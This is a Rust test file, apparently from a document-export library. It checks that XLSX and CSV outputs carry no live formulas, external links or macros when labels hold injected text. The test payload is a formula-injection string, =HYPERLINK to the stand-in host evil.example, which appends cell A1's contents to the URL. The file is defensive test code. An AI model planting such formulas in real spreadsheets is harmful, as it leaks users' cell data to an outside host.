//! T21: whatever somebody named a place or wrote into a field, no spreadsheet runs it.

use std::io::{Cursor, Read as _};

use calamine::{Reader, Xlsx};
use paper::Paper;

use crate::reading::csv_rows;
use crate::samples::{sheets, tables};

const EVIL: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"開く\")";

fn no_formula_in(document: &dyn Paper) {
    let bytes = document.xlsx().unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let mut evil = 0;
    for name in book.sheet_names() {
        assert!(book.worksheet_formula(&name).unwrap().is_empty(), "{name}");
        let range = book.worksheet_range(&name).unwrap();
        evil += range.used_cells().filter(|(_, _, cell)| cell.to_string().contains("evil.example")).count();
    }
    assert!(evil > 0, "the name stands in the workbook, as text");
    // Nor a link, a macro or anything fetched from elsewhere.
    let mut parts = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    for at in 0..parts.len() {
        let mut part = parts.by_index(at).unwrap();
        let name = part.name().unwrap().into_owned();
        assert!(!name.contains("externalLinks") && !name.contains("vbaProject"), "{name}");
        let mut text = String::new();
        if name.ends_with(".rels") && part.read_to_string(&mut text).is_ok() {
            assert!(!text.contains("TargetMode=\"External\""), "{name}: {text}");
        }
    }
    let rows = csv_rows(&document.csv().unwrap());
    for cell in rows.iter().flatten() {
        let number = !cell.is_empty() && cell.trim_start_matches('-').chars().all(|c| c.is_ascii_digit() || c == '.');
        assert!(number || !calendar::opens_formula(cell), "{cell}");
    }
    assert!(rows.iter().flatten().any(|cell| cell.starts_with("'=HYPERLINK")), "and in the rows, with its mark");
}

#[test]
fn no_output_for_spreadsheets_holds_a_formula() {
    let mut table = tables::monthly();
    table.table.axes[0].columns[0].label = EVIL.into();
    table.table.rows[0].label = EVIL.into();
    no_formula_in(&table);
    let mut kpi = tables::kpi();
    kpi.indicators[0].name = EVIL.into();
    no_formula_in(&kpi);
    for mut sheet in sheets::all() {
        sheet.activities[0].name = EVIL.into();
        sheet.indicators[0].name = EVIL.into();
        no_formula_in(&sheet);
    }
}
